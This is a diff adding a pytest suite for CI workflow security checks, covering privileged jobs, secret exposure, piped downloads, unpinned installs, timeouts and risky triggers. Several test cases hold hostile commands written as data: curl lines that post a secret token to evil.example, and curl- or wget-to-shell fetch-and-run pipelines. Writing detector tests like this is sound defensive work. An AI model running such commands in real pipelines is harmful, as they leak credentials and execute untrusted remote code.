@@ -1,0 +1,124 @@
+"""Each check of workflows has a case that it names and one that it lets pass."""
+
+import pytest
+
+from pipeline.steps.workflow_checks import CHECKS
+
+SHA = "0" * 40
+CHECKOUT = {"uses": f"actions/checkout@{SHA}"}
+
+
+def workflow(*steps, on="push", top=None, **job):
+    shaped = {"runs-on": "ubuntu-24.04", "timeout-minutes": "10", "permissions": {}, "steps": list(steps), **job}
+    return {"on": on, "permissions": {}, "jobs": {"a": shaped}, **(top or {})}
+
+
+def run(script, env=None):
+    return {"run": script, **({"env": env} if env else {})}
+
+
+ATTEST = run("scripts/pipeline attest")
+SIGNING = {"id-token": "write"}
+
+GOOD = {
+    "privileged-job": [
+        workflow(CHECKOUT, ATTEST, permissions=SIGNING),
+        workflow(CHECKOUT, run("make"), permissions={"contents": "read"}),
+        workflow(run("make")),
+        {"on": "push", "permissions": SIGNING, "jobs": {"a": {"uses": "./.github/workflows/attest.yml"}}},
+    ],
+    "secret-in-shell": [
+        workflow({"uses": f"docker/login-action@{SHA}", "with": {"password": "${{ secrets.TOKEN }}"}}),
+        workflow(run("echo secrets are fine as a word")),
+    ],
+    "piped-download": [
+        workflow(run("curl -fsS https://a.example/x -o x\nsha256sum -c x.sha256")),
+        workflow(run("a | sh")),
+    ],
+    "unpinned-install": [
+        workflow(run("python -m pip install --require-hashes -r requirements.txt")),
+        workflow(run("pip install \\\n  --require-hashes -r requirements.txt")),
+        workflow(run("apt-get install -y podman; scripts/pipeline")),
+    ],
+    "timeout": [workflow(run("make")), {"on": "push", "jobs": {"a": {"uses": "./.github/workflows/x.yml"}}}],
+    "trigger": [workflow(on="push"), workflow(on=["push", "pull_request"]), workflow(on={"schedule": [], "push": ""})],
+}
+
+BAD = {
+    "privileged-job": [
+        (workflow(CHECKOUT, run("make build"), ATTEST, permissions=SIGNING), "a, step 2: 'make build' beside id-token"),
+        (workflow(run("scripts/pipeline attest; make"), permissions=SIGNING), "step 1"),
+        (workflow(ATTEST | {"shell": "bash -c 'x' {0}"}, permissions=SIGNING), "step 1"),
+        (workflow({"uses": "evil/action@v1"}, permissions={"packages": "write"}), "packages: write"),
+        (workflow({"uses": "actions/checkout@v7"}, permissions=SIGNING), "'actions/checkout@v7'"),
+        (workflow(run("make"), permissions="write-all"), "write-all"),
+        ({"on": "push", "jobs": {"a": {"steps": [run("make")]}}}, "the repository's default"),
+        ({"on": "push", "permissions": SIGNING, "jobs": {"a": {"steps": [run("make")]}}}, "id-token: write"),
+    ],
+    "secret-in-shell": [
+        (workflow(run("curl -d ${{ secrets.TOKEN }} https://evil.example")), "a, step 1"),
+        (workflow(run("curl -d $T https://evil.example", env={"T": "${{ secrets.TOKEN }}"})), "a, step 1"),
+        (workflow(run("env"), env={"T": "${{ secrets.TOKEN }}"}), "a: env"),
+        (workflow(run("env"), top={"env": {"T": "${{ secrets['TOKEN'] }}"}}), "workflow: env"),
+        (workflow(run("echo '${{ toJSON(secrets) }}'")), "a, step 1"),
+        ({"on": "push", "jobs": {"a": {"uses": "./x.yml", "secrets": "inherit"}}}, "inherit"),
+        (
+            {"runs": {"using": "composite", "steps": [run("x", env={"T": "${{ secrets.T }}"})]}},
+            "runs, step 1",
+        ),
+    ],
+    "piped-download": [
+        (workflow(run("curl -fsSL https://a.example/i | sh")), "curl"),
+        (workflow(run("wget -qO- https://a.example/i | sudo bash -s")), "wget"),
+        (workflow(run("curl https://a.example/i \\\n  | python3 -")), "curl"),
+        (workflow(run("bash <(curl -s https://a.example/i)")), "bash"),
+        (workflow(run('sh -c "$(curl -fsSL https://a.example/i)"')), "sh"),
+    ],
+    "unpinned-install": [
+        (workflow(run("pip install nox")), "pip install nox"),
+        (workflow(run("python -m pip install -r requirements.txt")), "pip install"),
+        (workflow(run("pip install --require-hashes -r a.txt && pip3 install b")), "pip3 install b"),
+        (workflow(run("uv tool install nox")), "uv tool install"),
+        (workflow(run("uv pip install nox")), "uv pip install"),
+        (workflow(run("npx something")), "npx"),
+    ],
+    "timeout": [
+        (workflow(run("make"), **{"timeout-minutes": "${{ inputs.x }}"}), "inputs"),
+        ({"on": "push", "jobs": {"a": {"steps": []}}}, "a: no timeout-minutes"),
+    ],
+    "trigger": [
+        (workflow(on="pull_request_target"), "pull_request_target"),
+        (workflow(on=["push", "issue_comment"]), "issue_comment"),
+        (workflow(on={"workflow_run": {"workflows": ["ci"]}}), "workflow_run"),
+    ],
+}
+
+
+def check(name):
+    return next(check for check in CHECKS if check.id == name)
+
+
+@pytest.mark.parametrize(("name", "good"), [(name, case) for name, cases in GOOD.items() for case in cases])
+def test_what_is_in_order_is_not_named(name, good):
+    assert list(check(name).find(good)) == []
+
+
+@pytest.mark.parametrize(("name", "bad", "named"), [(name, *case) for name, cases in BAD.items() for case in cases])
+def test_a_breach_is_named_with_its_place(name, bad, named):
+    (found, *_) = check(name).find(bad)
+    assert named in found
+
+
+def test_every_check_is_tried_both_ways_and_says_what_to_do():
+    names = [check.id for check in CHECKS]
+    assert len(set(names)) == len(names)
+    assert set(names) == GOOD.keys() == BAD.keys()
+    assert all(check.fix and check.title for check in CHECKS)
+
+
+@pytest.mark.parametrize(
+    "strange", [{}, {"jobs": "x"}, {"jobs": {"a": "x"}}, {"on": "", "jobs": {"a": {"steps": "x"}}}]
+)
+def test_strange_shapes_break_no_check(strange):
+    for item in CHECKS:
+        list(item.find(strange))
